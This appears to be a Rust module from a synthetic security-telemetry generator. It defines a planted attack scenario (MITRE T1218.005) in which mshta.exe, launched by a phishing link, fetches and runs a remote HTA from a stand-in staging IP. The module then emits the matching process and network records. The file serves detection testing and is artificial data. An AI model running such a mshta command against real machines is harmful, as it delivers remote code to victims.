//! Planted: mshta running an HTML application from the internet. A phishing link's
//! command runs `mshta.exe http://<staging>/invoice.hta`, and mshta fetches it.

use serde_json::{Map, Value};

use super::{Env, Kind, Scenario, outbound, process_record};
use crate::synth::content as c;
use crate::synth::device::{Ctx, SECOND, Spawn};
use crate::synth::rng::Rng;
use crate::synth::world as w;

/// See the module documentation.
pub struct MshtaRemote;

impl Scenario for MshtaRemote {
    fn name(&self) -> &'static str {
        "mshta_remote"
    }

    fn kind(&self) -> Kind {
        Kind::Attack
    }

    fn technique(&self) -> &'static str {
        "T1218.005"
    }

    fn run(&self, ctx: &mut Ctx<'_>, env: &Env<'_>, at: i64, rng: &mut Rng) -> Map<String, Value> {
        let line = format!("\"C:\\Windows\\system32\\mshta.exe\" http://{}/invoice.hta", c::STAGING_IP);
        let mshta = ctx.spawn(at, Spawn::new(&w::MSHTA, line).parent(&env.session.explorer).lifetime(20 * SECOND));
        let conn = outbound(c::STAGING_IP, 80, rng);
        ctx.connect(&mshta, at + SECOND, &conn);
        process_record(&mshta, &env.session.explorer)
    }
}
